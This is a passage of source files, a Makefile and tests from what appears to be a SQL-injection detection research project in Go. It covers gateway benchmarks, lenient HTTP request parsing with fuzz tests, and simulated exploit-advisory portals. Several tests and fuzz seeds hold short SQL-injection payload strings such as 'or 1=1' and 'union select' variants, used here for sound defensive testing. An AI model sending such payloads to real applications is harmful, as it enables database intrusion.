			forwards = append(forwards, "/wavsep/Case1.jsp?"+r.RawQuery)
		}
	}
	for _, r := range attackgen.NewGenerator(attackgen.SQLMapProfile(), 62).Requests(200) {
		if env.Model9.Inspect(r).Alert {
			blocked = append(blocked, r.URL())
		}
	}

	drive := func(b *testing.B, targets []string, want func(int) bool) {
		b.Helper()
		if len(targets) == 0 {
			b.Skip("no targets on this path")
		}
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			w := httptest.NewRecorder()
			g.ServeHTTP(w, httptest.NewRequest("GET", targets[i%len(targets)], nil))
			if !want(w.Code) {
				b.Fatalf("unexpected status %d", w.Code)
			}
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "req/s")
	}

	b.Run("forward", func(b *testing.B) {
		// The webapp answers 200 or (for odd param values) its SQL-error
		// 500 page; both mean the request went through to the upstream.
		drive(b, forwards, func(c int) bool { return c != 403 })
	})
	b.Run("blocked", func(b *testing.B) {
		drive(b, blocked, func(c int) bool { return c == 403 })
	})
}
