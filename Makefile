# Tier-1 gate: everything `make check` runs must stay green.

GO ?= go

.PHONY: check vet build test race bench smoke

check: vet build test smoke

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# The full race-enabled run; slower, so separate from `test` but part of CI.
# internal/experiments regenerates every table under a ~30x race slowdown,
# hence the long timeout.
race:
	$(GO) test -race -timeout 45m ./...

# Sparse-vs-dense and pipeline micro benchmarks (EXPERIMENTS.md numbers).
bench:
	$(GO) test -run '^$$' -bench 'Featurize|PairwiseDistances|DenseMatch|SparseMatch' -benchmem .

# End-to-end smoke test: the quickstart example must train and classify.
smoke:
	$(GO) run ./examples/quickstart
