# Tier-1 gate: everything `make check` runs must stay green.

GO ?= go

.PHONY: check vet fmt lint lint-baseline build test race race-parallel bench bench-fastpath bench-abuse bench-fleet fastpath-smoke smoke chaos gateway-chaos lifecycle-chaos abuse-chaos fleet-chaos fuzz

check: vet fmt build lint test smoke fastpath-smoke chaos gateway-chaos lifecycle-chaos abuse-chaos fleet-chaos fuzz

vet:
	$(GO) vet ./...

# gofmt cleanliness: fails listing the offending files, fixes nothing.
fmt:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then echo "gofmt needed:"; echo "$$out"; exit 1; fi

# The repository analyzer suite (code invariants, concurrency discipline,
# catalog flaws); exits nonzero on any unsuppressed finding not in the
# committed baseline, so new findings fail CI from day one. See DESIGN.md
# "Analysis" and "Concurrency analysis".
lint:
	$(GO) run ./cmd/psigenelint -baseline lint-baseline.json ./...

# Regenerate the accepted-findings baseline. New entries get a placeholder
# reason the gate rejects: justify each one in lint-baseline.json before
# committing, or fix the finding instead.
lint-baseline:
	$(GO) run ./cmd/psigenelint -write-baseline lint-baseline.json ./...

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# The full race-enabled run; slower, so separate from `test` but part of CI.
# internal/experiments regenerates every table under a ~30x race slowdown,
# hence the long timeout. The serial-vs-parallel parity tests (matrix,
# feature, cluster, core, ids) run here too, exercising the parallel train
# path under the race detector.
race: race-parallel
	$(GO) test -race -timeout 45m ./...

# Fast race pass over just the parallel kernels and their parity tests —
# the worker pools, disjoint-slot writes, ownership partitioning, and the
# prefiltered serving path (shared extractor + atomic gate toggling under
# concurrent sessions) — plus the gateway and lifecycle chaos suites,
# whose reload storms and canary swaps exercise exactly the pool/atomic/
# lock invariants the static analyzers prove. The analyzer fixture
# modules under cmd/psigenelint/testdata carry deliberate races by
# design; `go test ./...` never builds testdata directories, so they are
# excluded from this pass by construction.
race-parallel:
	$(GO) test -race -timeout 20m -run 'Parallel|Prefilter|Session' ./internal/...
	$(GO) test -race -timeout 20m -count=1 ./internal/gateway/ ./internal/resilience/ ./internal/admission/ ./internal/fleet/
	$(GO) test -race -timeout 20m -count=1 -run 'Chaos|Reload|Lifecycle|Canary' ./internal/gateway/ ./internal/lifecycle/

# Sparse-vs-dense, serial-vs-parallel train, and pipeline micro benchmarks
# (EXPERIMENTS.md numbers), plus the machine-readable lifecycle benchmark
# (bootstrap/round latencies and gateway replay throughput).
bench:
	$(GO) test -run '^$$' -bench 'Featurize|PairwiseDistances|TrainParallel|DenseMatch|SparseMatch|GatewayThroughput' -benchmem .
	$(GO) run ./cmd/evalharness -experiment lifecycle -out BENCH_lifecycle.json

# The serving fast-path benchmark: Inspect and gateway throughput with the
# literal prefilter on vs. off, allocations per benign Inspect, and the
# prefilter census, written to the committed BENCH_fastpath.json (see
# EXPERIMENTS.md "Serving fast path").
bench-fastpath:
	$(GO) run ./cmd/evalharness -experiment fastpath -out BENCH_fastpath.json

# Fast-path smoke: the bit-identity gates (train/serve/session parity,
# countMatches-vs-FindAll cross-check, corpus soundness) and the
# benign-path allocation budget, without the timing runs.
fastpath-smoke:
	$(GO) test -count=1 -run 'Prefilter|Fastpath|Session|ZeroAlloc|CountMatch|FullyGated|Opaque' ./internal/feature/ ./internal/core/ ./internal/analysis/

# End-to-end smoke test: the quickstart example must train and classify.
smoke:
	$(GO) run ./examples/quickstart

# Chaos gate: the deterministic fault-injection suite (golden replay,
# recovery floor, kill-and-resume equivalence, breaker state machine) plus
# the degraded end-to-end loop. All sleeps are injected, so this is fast.
chaos:
	$(GO) test -count=1 -run 'Chaos|Checkpoint|Breaker|RetryAfter|Quarantine|Timeout' ./internal/crawl/ ./internal/faultify/
	$(GO) run ./examples/crawl-and-train -flaky

# Serving-side chaos gate: the gateway's deterministic fault-storm suite
# (faultify-wrapped upstream, scoring panics, failed reloads, drain under
# burst). Hang faults resolve through the gateway's short upstream
# deadline, so the whole suite runs in a few seconds.
gateway-chaos:
	$(GO) test -count=1 -run 'Chaos|Breaker|Drain|Overload|Reload' ./internal/gateway/

# Lifecycle chaos gate: the end-to-end crawl→retrain→gate→canary scenario
# under injected crawl faults, run twice and compared bit for bit
# (manifests, decision journal, canary verdict sequences), plus the
# versioned-artifact store and gate/canary unit suites. Sleeps are
# injected and traffic replays in-process, so no wall-clock waits.
lifecycle-chaos:
	$(GO) test -count=1 -run 'Lifecycle|Store|Gate|Runner|Rollback|Replay|CrawlSource' ./internal/lifecycle/

# Abuse-control chaos gate: the deterministic zipfian-storm suites at the
# controller and gateway layers (hot caller penalty-boxed and recovered
# while benign zipfian traffic rides through with zero limiter sheds,
# bit-identical transcripts across same-seed runs), the million-entry
# denylist build/lookup/hot-reload paths, and the admission fail-open
# behaviors. Every clock is injected, so the suite has no wall-clock
# sleeps and runs in seconds.
abuse-chaos:
	$(GO) test -count=1 -run 'AbuseChaos|Controller|XFF|CallerTable|Denylist|AdmissionPanic' ./internal/admission/ ./internal/gateway/

# Fleet chaos gate: the deterministic multi-replica storm — kill,
# eject, readmit and coordinated-reload a three-replica fleet mid-storm
# with seeded fault injection, and assert the verdict stream is
# bit-identical to a single instance serving the same sequence (plus a
# bit-identical transcript across same-seed runs). Sleeps are injected
# no-ops and every decision is a function of the seed, so the suite runs
# in seconds with zero wall-clock waits.
fleet-chaos:
	$(GO) test -count=1 -run 'FleetChaos|Ring|Failover|Ejection|ReloadTwoPhase|ReloadProbe|ReloadCommit|RollbackFailure' ./internal/fleet/

# The abuse-control benchmark: keyed admission checks under zipfian
# churn, million-entry denylist lookups, gateway overhead with admission
# on vs. off, and the deterministic storm outcome tally, written to the
# committed BENCH_abuse.json (see EXPERIMENTS.md "Abuse control").
bench-abuse:
	$(GO) run ./cmd/evalharness -experiment abuse -out BENCH_abuse.json

# The fleet benchmark: front routing overhead vs. a bare gateway, the
# failover path with a replica down, coordinated-reload fanout time and
# ring load spread, written to the committed BENCH_fleet.json (see
# EXPERIMENTS.md "Fleet serving").
bench-fleet:
	$(GO) run ./cmd/evalharness -experiment fleet -out BENCH_fleet.json

# Fuzz smoke: a few seconds per httpx parsing target (plus their checked-in
# crash corpora under testdata/fuzz). `go test -fuzz` accepts one target
# per run, hence one invocation each.
fuzz:
	$(GO) test -run '^$$' -fuzz '^FuzzDecodeComponent$$' -fuzztime 3s ./internal/httpx
	$(GO) test -run '^$$' -fuzz '^FuzzParseRequestLine$$' -fuzztime 3s ./internal/httpx
	$(GO) test -run '^$$' -fuzz '^FuzzParseParams$$' -fuzztime 3s ./internal/httpx
	$(GO) test -run '^$$' -fuzz '^FuzzPrefilterSoundness$$' -fuzztime 3s ./internal/feature
