// Package httpx provides the small HTTP request model shared by the traffic
// generators, the IDS engines, and the pSigene pipeline: a parsed GET/POST
// request and the payload-extraction rule the paper uses ("we extract the
// SQL query from the HTTP request payload by leaving out the HTTP address,
// the port, and the path — typically a ? indicates the start of the query
// string").
package httpx

import (
	"fmt"
	"strings"
)

// Request is one HTTP request as seen by a network IDS.
type Request struct {
	// Method is the HTTP method (GET, POST, ...).
	Method string
	// Host is the target host (without port).
	Host string
	// Path is the URL path, without the query string.
	Path string
	// RawQuery is everything after the first '?', undecoded.
	RawQuery string
	// Body is the request body for POST requests (form-encoded), undecoded.
	Body string
	// Malicious is the ground-truth label carried by generated datasets; it
	// is never consulted by any detector.
	Malicious bool
	// Tool identifies the generator that produced the request (sqlmap,
	// arachni, vega, benign, crawl, ...), for per-set reporting.
	Tool string
}

// ParseURL builds a Request from a raw URL string such as
// "http://host:8080/app/page.jsp?id=1+or+1%3D1". Scheme, host and port are
// optional; everything after the first '?' becomes RawQuery. Crawled sample
// URLs are attacker-written and often deliberately malformed (bare '?',
// stray whitespace, broken percent escapes), so parsing is lenient: it
// splits on structure only and never rejects a payload for its content —
// the payload IS the signal.
func ParseURL(raw string) (Request, error) {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return Request{}, fmt.Errorf("httpx: empty URL")
	}
	r := Request{Method: "GET"}
	rest := raw
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
		// host[:port]/...
		slash := strings.IndexByte(rest, '/')
		var hostport string
		if slash < 0 {
			hostport, rest = rest, ""
		} else {
			hostport, rest = rest[:slash], rest[slash:]
		}
		if c := strings.IndexByte(hostport, ':'); c >= 0 {
			hostport = hostport[:c]
		}
		r.Host = hostport
	}
	if q := strings.IndexByte(rest, '?'); q >= 0 {
		r.Path, r.RawQuery = rest[:q], rest[q+1:]
	} else {
		r.Path = rest
	}
	if r.Path == "" {
		r.Path = "/"
	}
	return r, nil
}

// ParseRequestLine builds a Request from an HTTP request line such as
// "GET /app/page.jsp?id=1+or+1%3D1 HTTP/1.1". The HTTP-version field is
// optional and ignored; the target may be an absolute URL or an
// origin-form path. Like ParseURL it is lenient — gateway access logs and
// replay files carry attacker-written targets (embedded spaces, bare '?',
// broken escapes), so a target with spaces is recovered by treating only
// a trailing HTTP/x token as the version and keeping the rest as target.
// Only an empty line or a line with no target is rejected.
func ParseRequestLine(line string) (Request, error) {
	line = strings.TrimSpace(line)
	if line == "" {
		return Request{}, fmt.Errorf("httpx: empty request line")
	}
	method := "GET"
	rest := line
	// A bare token is a target, not a method.
	if sp := strings.IndexByte(rest, ' '); sp >= 0 {
		method, rest = rest[:sp], strings.TrimSpace(rest[sp+1:])
	}
	if rest == "" {
		return Request{}, fmt.Errorf("httpx: request line %q has no target", line)
	}
	// Strip a trailing version token only if it looks like one; payloads
	// may legitimately contain spaces.
	if sp := strings.LastIndexByte(rest, ' '); sp >= 0 {
		if v := rest[sp+1:]; strings.HasPrefix(v, "HTTP/") {
			rest = strings.TrimSpace(rest[:sp])
		}
	}
	if rest == "" {
		return Request{}, fmt.Errorf("httpx: request line %q has no target", line)
	}
	r, err := ParseURL(rest)
	if err != nil {
		return Request{}, err
	}
	r.Method = strings.ToUpper(method)
	return r, nil
}

// Payload returns the part of the request a signature is matched against:
// the query string, plus the body for POST requests. Host, port, and path
// are excluded per the paper's extraction rule.
func (r Request) Payload() string {
	if r.Body == "" {
		return r.RawQuery
	}
	if r.RawQuery == "" {
		return r.Body
	}
	return r.RawQuery + "&" + r.Body
}

// AppendPayload appends Payload to dst and returns it — the
// allocation-free request view the serving hot path scores, identical
// byte for byte to Payload.
func (r Request) AppendPayload(dst []byte) []byte {
	if r.Body == "" {
		return append(dst, r.RawQuery...)
	}
	if r.RawQuery == "" {
		return append(dst, r.Body...)
	}
	dst = append(dst, r.RawQuery...)
	dst = append(dst, '&')
	return append(dst, r.Body...)
}

// URL reconstructs the request target (path plus query) for logging.
func (r Request) URL() string {
	if r.RawQuery == "" {
		return r.Path
	}
	return r.Path + "?" + r.RawQuery
}

// DecodeComponent percent-decodes a query component, treating '+' as a
// space. Unlike net/url's decoder it never fails: a malformed escape (bare
// or truncated '%', non-hex digits — common in hand-crafted SQLi payloads
// like "%' or 1=1") is kept literally. Decoding always succeeds, so every
// crawled payload survives into the corpus.
func DecodeComponent(s string) string {
	if !strings.ContainsAny(s, "%+") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		switch c := s[i]; c {
		case '+':
			b.WriteByte(' ')
		case '%':
			if i+2 < len(s) {
				hi, ok1 := unhex(s[i+1])
				lo, ok2 := unhex(s[i+2])
				if ok1 && ok2 {
					b.WriteByte(hi<<4 | lo)
					i += 2
					continue
				}
			}
			b.WriteByte('%')
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func unhex(c byte) (byte, bool) {
	switch {
	case '0' <= c && c <= '9':
		return c - '0', true
	case 'a' <= c && c <= 'f':
		return c - 'a' + 10, true
	case 'A' <= c && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}

// Param is one name=value pair of a query string, undecoded, in original
// order.
type Param struct {
	Name, Value string
}

// Decoded returns the pair with name and value percent-decoded (lenient;
// see DecodeComponent).
func (p Param) Decoded() Param {
	return Param{Name: DecodeComponent(p.Name), Value: DecodeComponent(p.Value)}
}

// ParseParams splits a raw query string into ordered name/value pairs
// without decoding. Pairs are separated by '&' (or ';'); a pair without '='
// yields an empty Value. Fields that carry nothing at all ("", "=") are
// skipped — every returned pair has a name or a value.
func ParseParams(rawQuery string) []Param {
	if rawQuery == "" {
		return nil
	}
	fields := strings.FieldsFunc(rawQuery, func(r rune) bool { return r == '&' || r == ';' })
	out := make([]Param, 0, len(fields))
	for _, f := range fields {
		if f == "" {
			continue
		}
		if eq := strings.IndexByte(f, '='); eq >= 0 {
			if f == "=" {
				continue
			}
			out = append(out, Param{Name: f[:eq], Value: f[eq+1:]})
		} else {
			out = append(out, Param{Name: f})
		}
	}
	return out
}
