package httpx

import "testing"

func TestParseURL(t *testing.T) {
	cases := []struct {
		in                         string
		host, path, query, payload string
	}{
		{"http://example.com/a/b.jsp?id=1", "example.com", "/a/b.jsp", "id=1", "id=1"},
		{"http://example.com:8080/x?q=1&r=2", "example.com", "/x", "q=1&r=2", "q=1&r=2"},
		{"/local/path?a=b", "", "/local/path", "a=b", "a=b"},
		{"http://host.only", "host.only", "/", "", ""},
		{"/plain", "", "/plain", "", ""},
		{"?leading=1", "", "/", "leading=1", "leading=1"},
		{"/p?x=a?b", "", "/p", "x=a?b", "x=a?b"}, // only the first ? splits
		// Attacker-written sample URLs: lenient structural parsing only.
		{"?", "", "/", "", ""},                         // bare ?
		{"??a=b", "", "/", "?a=b", "?a=b"},             // doubled ?
		{"  /p?id=1  ", "", "/p", "id=1", "id=1"},      // stray whitespace
		{"/p?id=%zz'", "", "/p", "id=%zz'", "id=%zz'"}, // broken escape kept raw
	}
	for _, c := range cases {
		r, err := ParseURL(c.in)
		if err != nil {
			t.Fatalf("ParseURL(%q): %v", c.in, err)
		}
		if r.Host != c.host || r.Path != c.path || r.RawQuery != c.query {
			t.Fatalf("ParseURL(%q) = %+v", c.in, r)
		}
		if got := r.Payload(); got != c.payload {
			t.Fatalf("Payload(%q) = %q, want %q", c.in, got, c.payload)
		}
	}
	if _, err := ParseURL(""); err == nil {
		t.Fatal("empty URL: want error")
	}
}

func TestPayloadIncludesBody(t *testing.T) {
	r := Request{Method: "POST", RawQuery: "a=1", Body: "user=x&pass=y"}
	if got := r.Payload(); got != "a=1&user=x&pass=y" {
		t.Fatalf("Payload=%q", got)
	}
	r = Request{Method: "POST", Body: "user=x"}
	if got := r.Payload(); got != "user=x" {
		t.Fatalf("Payload=%q", got)
	}
}

func TestURLRoundTrip(t *testing.T) {
	r := Request{Path: "/a", RawQuery: "b=c"}
	if got := r.URL(); got != "/a?b=c" {
		t.Fatalf("URL=%q", got)
	}
	r.RawQuery = ""
	if got := r.URL(); got != "/a" {
		t.Fatalf("URL=%q", got)
	}
}

func TestParseParams(t *testing.T) {
	ps := ParseParams("id=1&name=o'brien&flag&empty=&x=a=b")
	want := []Param{
		{"id", "1"}, {"name", "o'brien"}, {"flag", ""}, {"empty", ""}, {"x", "a=b"},
	}
	if len(ps) != len(want) {
		t.Fatalf("got %d params %v, want %d", len(ps), ps, len(want))
	}
	for i := range want {
		if ps[i] != want[i] {
			t.Fatalf("param %d = %+v, want %+v", i, ps[i], want[i])
		}
	}
}

func TestParseParamsSemicolonSeparator(t *testing.T) {
	ps := ParseParams("a=1;b=2")
	if len(ps) != 2 || ps[1].Name != "b" {
		t.Fatalf("params=%v", ps)
	}
}

func TestDecodeComponent(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"a+b", "a b"},
		{"%27or%271%27%3D%271", "'or'1'='1"},
		{"%41%62c", "Abc"},
		{"%2Bliteral", "+literal"}, // encoded plus decodes to plus, not space
		// Malformed escapes survive literally instead of erroring.
		{"%", "%"},
		{"%2", "%2"},
		{"100%", "100%"},
		{"%zz", "%zz"},
		{"%' or 1=1", "%' or 1=1"},
		{"%g1%41", "%g1A"}, // bad escape kept, good escape still decoded
	}
	for _, c := range cases {
		if got := DecodeComponent(c.in); got != c.want {
			t.Fatalf("DecodeComponent(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestParamDecoded(t *testing.T) {
	p := Param{Name: "user%20name", Value: "1+or+%271%27%3D%271"}
	d := p.Decoded()
	if d.Name != "user name" || d.Value != "1 or '1'='1" {
		t.Fatalf("Decoded = %+v", d)
	}
	// Malformed pairs decode to themselves, never fail.
	p = Param{Name: "a%", Value: "%zz"}
	if d := p.Decoded(); d.Name != "a%" || d.Value != "%zz" {
		t.Fatalf("Decoded = %+v", d)
	}
}

func TestParseParamsEmpty(t *testing.T) {
	if got := ParseParams(""); got != nil {
		t.Fatalf("ParseParams(\"\")=%v, want nil", got)
	}
	if got := ParseParams("&&"); len(got) != 0 {
		t.Fatalf("ParseParams(\"&&\")=%v, want empty", got)
	}
}
