package httpx

import (
	"strings"
	"testing"
)

// The gateway feeds these decoders raw attacker bytes straight off the
// wire, so the fuzz contract is the resilience contract: no input may
// panic, and the never-error decoders (DecodeComponent, Param.Decoded,
// ParseParams) must accept everything. ParseURL/ParseRequestLine may
// reject only structurally empty input — a payload is never invalid for
// its content.

func fuzzSeeds(f *testing.F) {
	for _, s := range []string{
		"",
		" ",
		"id=1",
		"id=1%27+OR+1%3D1--",
		"%",
		"%2",
		"%zz",
		"%' or 1=1",
		"a%00b%ffc",
		"+++",
		"a=1&b=2;c=3&&;=x",
		"?",
		"/page.php?id=1 union select 1,2--",
		"http://host:8080/app/page.jsp?id=1+or+1%3D1",
		"GET /app/x.php?q=%27 HTTP/1.1",
		"POST http://h/p?a=b HTTP/1.0",
		"get  /двойной?q=\x00\x01\x02",
		strings.Repeat("%", 300) + strings.Repeat("+", 300),
	} {
		f.Add(s)
	}
}

func FuzzDecodeComponent(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		out := DecodeComponent(s)
		// Decoding never grows the input: '+' maps 1:1, a valid %XX
		// shrinks three bytes to one, a broken '%' is kept literally.
		if len(out) > len(s) {
			t.Fatalf("DecodeComponent(%q) grew %d -> %d bytes", s, len(s), len(out))
		}
		// Inputs without escape characters pass through untouched.
		if !strings.ContainsAny(s, "%+") && out != s {
			t.Fatalf("DecodeComponent(%q) = %q, want identity", s, out)
		}
	})
}

func FuzzParseRequestLine(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		req, err := ParseRequestLine(s)
		if err != nil {
			// Rejection is allowed only for structurally empty lines: a
			// non-empty target must always parse.
			fields := strings.Fields(s)
			if len(fields) > 1 {
				t.Fatalf("ParseRequestLine(%q) rejected a line with a target: %v", s, err)
			}
			return
		}
		if req.Path == "" {
			t.Fatalf("ParseRequestLine(%q) returned an empty path", s)
		}
		// The parsed request must survive the rest of the pipeline.
		_ = req.Payload()
		_ = req.URL()
		for _, p := range ParseParams(req.RawQuery) {
			_ = p.Decoded()
		}
	})
}

func FuzzParseParams(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		params := ParseParams(s)
		for _, p := range params {
			if p.Name == "" && p.Value == "" {
				t.Fatalf("ParseParams(%q) produced an empty pair", s)
			}
			d := p.Decoded()
			if len(d.Name) > len(p.Name) || len(d.Value) > len(p.Value) {
				t.Fatalf("ParseParams(%q): decoding grew %q=%q to %q=%q", s, p.Name, p.Value, d.Name, d.Value)
			}
		}
		// ParseURL is lenient by contract: any non-empty input parses.
		if strings.TrimSpace(s) != "" {
			if _, err := ParseURL(s); err != nil {
				t.Fatalf("ParseURL(%q) rejected non-empty input: %v", s, err)
			}
		}
	})
}
