package portal

import (
	"encoding/json"
	"io"
	"net/http/httptest"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/faultify"
)

func testEntries(t *testing.T, n int) []Entry {
	t.Helper()
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), 1)
	return GenerateEntries(gen, n)
}

func TestGenerateEntries(t *testing.T) {
	entries := testEntries(t, 20)
	if len(entries) != 20 {
		t.Fatalf("got %d entries", len(entries))
	}
	for i, e := range entries {
		if len(e.Samples) == 0 {
			t.Fatalf("entry %d has no samples", i)
		}
		for _, s := range e.Samples {
			if !strings.HasPrefix(s, "http://") || !strings.Contains(s, "?") {
				t.Fatalf("sample %q is not an attack URL", s)
			}
		}
	}
	// Table I CVEs must be carried by the first entries.
	for i, cve := range KnownCVEs() {
		if entries[i].CVE != cve {
			t.Fatalf("entry %d CVE=%q, want %q", i, entries[i].CVE, cve)
		}
	}
}

func TestHTMLPortalPagination(t *testing.T) {
	p := New("exploit-db", StyleHTML, 5, testEntries(t, 12))
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	get := func(url string) string {
		resp, err := srv.Client().Get(url)
		if err != nil {
			t.Fatalf("GET %s: %v", url, err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return string(b)
	}

	page0 := get(srv.URL + "/")
	if !strings.Contains(page0, "/advisory/1000") {
		t.Fatal("page 0 must link the first advisory")
	}
	if !strings.Contains(page0, "?page=1") {
		t.Fatal("page 0 must link the next page")
	}
	page2 := get(srv.URL + "/?page=2")
	if strings.Contains(page2, "next page") {
		t.Fatal("last page must not link a next page")
	}
	beyond := get(srv.URL + "/?page=99")
	if !strings.Contains(beyond, "No more entries") {
		t.Fatal("out-of-range page must say so")
	}
}

func TestHTMLAdvisoryPage(t *testing.T) {
	entries := testEntries(t, 6)
	p := New("securityfocus", StyleHTML, 10, entries)
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	resp, err := srv.Client().Get(srv.URL + "/advisory/1000")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	body := string(b)
	if !strings.Contains(body, "<pre") {
		t.Fatal("advisory must contain a PoC pre block")
	}
	if !strings.Contains(body, "CVE-2012-3554") {
		t.Fatal("first advisory must carry the Table I CVE")
	}

	resp2, _ := srv.Client().Get(srv.URL + "/advisory/nope")
	resp2.Body.Close()
	if resp2.StatusCode != 404 {
		t.Fatalf("bad advisory id: status %d", resp2.StatusCode)
	}
	resp3, _ := srv.Client().Get(srv.URL + "/advisory/99999")
	resp3.Body.Close()
	if resp3.StatusCode != 404 {
		t.Fatalf("unknown advisory: status %d", resp3.StatusCode)
	}
}

func TestAPIPortalPaging(t *testing.T) {
	p := New("osvdb", StyleAPI, 4, testEntries(t, 10))
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	var total int
	offset := 0
	for pages := 0; pages < 10; pages++ {
		resp, err := srv.Client().Get(srv.URL + "/api/search?offset=" + itoa(offset))
		if err != nil {
			t.Fatal(err)
		}
		var body struct {
			Total   int     `json:"total"`
			Results []Entry `json:"results"`
			Next    *int    `json:"next"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		total += len(body.Results)
		if body.Next == nil {
			break
		}
		offset = *body.Next
	}
	if total != 10 {
		t.Fatalf("paged through %d entries, want 10", total)
	}
}

func TestEntriesCopy(t *testing.T) {
	p := New("x", StyleHTML, 5, testEntries(t, 3))
	es := p.Entries()
	es[0].Title = "mutated"
	if p.Entries()[0].Title == "mutated" {
		t.Fatal("Entries must return a copy")
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

func TestFaultyHandler(t *testing.T) {
	p := New("exploit-db", StyleHTML, 5, testEntries(t, 8))
	// Only 500s, at rate 1: every request faults once, then recovers.
	inj := faultify.New(faultify.Config{
		Seed:    3,
		Rates:   map[faultify.Class]float64{faultify.Err500: 1},
		Repeats: 1,
	})
	srv := httptest.NewServer(p.FaultyHandler(inj))
	defer srv.Close()

	resp, err := srv.Client().Get(srv.URL + "/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 500 {
		t.Fatalf("first hit: status %d, want injected 500", resp.StatusCode)
	}
	resp2, err := srv.Client().Get(srv.URL + "/")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp2.Body)
	resp2.Body.Close()
	if resp2.StatusCode != 200 || !strings.Contains(string(b), "/advisory/1000") {
		t.Fatalf("second hit: status %d, want the real page", resp2.StatusCode)
	}
	if st := inj.Snapshot(); st.Total() != 1 || st.Passed != 1 {
		t.Fatalf("stats = %v, want 1 injected + 1 passed", st)
	}
}

func TestForumPortal(t *testing.T) {
	p := New("full-disclosure", StyleForum, 5, testEntries(t, 6))
	srv := httptest.NewServer(p.Handler())
	defer srv.Close()

	resp, err := srv.Client().Get(srv.URL + "/")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(b), "/thread/1000") {
		t.Fatalf("index missing thread links:\n%s", b)
	}

	resp2, err := srv.Client().Get(srv.URL + "/thread/1000")
	if err != nil {
		t.Fatal(err)
	}
	b2, _ := io.ReadAll(resp2.Body)
	resp2.Body.Close()
	if !strings.Contains(string(b2), "<code>") {
		t.Fatalf("thread missing code blocks:\n%s", b2)
	}

	resp3, _ := srv.Client().Get(srv.URL + "/thread/zzz")
	resp3.Body.Close()
	if resp3.StatusCode != 404 {
		t.Fatalf("bad thread id: status %d", resp3.StatusCode)
	}
}
