// Package portal simulates the public cybersecurity portals pSigene crawls
// for attack samples (§II-A): SecurityFocus/Bugtraq, the Exploit Database,
// PacketStorm Security, and the Open Source Vulnerability Database. Live
// sites are a gated resource; these in-process HTTP servers expose the same
// crawler-facing surface — paginated HTML listings, per-advisory pages with
// proof-of-concept sample URLs, and OSVDB's JSON search API — populated
// with generated attack samples.
package portal

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"

	"psigene/internal/attackgen"
	"psigene/internal/faultify"
)

// Style selects the portal's presentation.
type Style int

// Portal styles.
const (
	// StyleHTML serves paginated HTML listings with advisory detail pages
	// (SecurityFocus, Exploit-DB, PacketStorm).
	StyleHTML Style = iota + 1
	// StyleAPI serves an OSVDB-style JSON search API with offset paging.
	StyleAPI
	// StyleForum serves a mailing-list/forum archive: a thread index and
	// per-thread pages where samples appear inside <code> blocks of posts
	// (the paper notes "open forums and mailing lists where users share
	// attack samples").
	StyleForum
)

// Entry is one advisory/exploit posting.
type Entry struct {
	// ID is the portal-local identifier.
	ID int `json:"id"`
	// Title is the advisory headline.
	Title string `json:"title"`
	// CVE is the assigned CVE identifier ("" if none).
	CVE string `json:"cve,omitempty"`
	// Published is the posting date, RFC 3339 date form.
	Published string `json:"published"`
	// Samples are the proof-of-concept attack URLs.
	Samples []string `json:"samples"`
}

// Portal is one simulated site.
type Portal struct {
	// Name identifies the site (securityfocus, exploit-db, packetstorm, osvdb).
	Name string
	// Style selects HTML or JSON API presentation.
	Style Style
	// PageSize is the listing page size.
	PageSize int
	entries  []Entry
}

// New creates a portal with the given entries.
func New(name string, style Style, pageSize int, entries []Entry) *Portal {
	if pageSize <= 0 {
		pageSize = 10
	}
	return &Portal{Name: name, Style: style, PageSize: pageSize, entries: entries}
}

// Entries returns the advisory inventory (copy).
func (p *Portal) Entries() []Entry {
	return append([]Entry(nil), p.entries...)
}

// knownCVEs reproduces Table I: SQLi vulnerabilities published in July 2012
// that the crawled corpus must cover.
var knownCVEs = []struct{ cve, title string }{
	{"CVE-2012-3554", "Joomla 1.5.x RSGallery 2.3.20 component SQL injection"},
	{"CVE-2012-2306", "Drupal 6.x-4.2 Addressbook module SQL injection"},
	{"CVE-2012-3395", "Moodle 2.0.x mod/feedback/complete.php SQL injection"},
	{"CVE-2012-3881", "RTG 0.7.4 and RTG2 0.9.2 95/view/rtg.php SQL injection"},
}

// KnownCVEs returns the Table I vulnerability list.
func KnownCVEs() []string {
	out := make([]string, len(knownCVEs))
	for i, k := range knownCVEs {
		out[i] = k.cve
	}
	return out
}

// GenerateEntries builds count advisory entries populated with attack
// samples from the generator; the first entries carry the Table I CVEs.
func GenerateEntries(gen *attackgen.Generator, count int) []Entry {
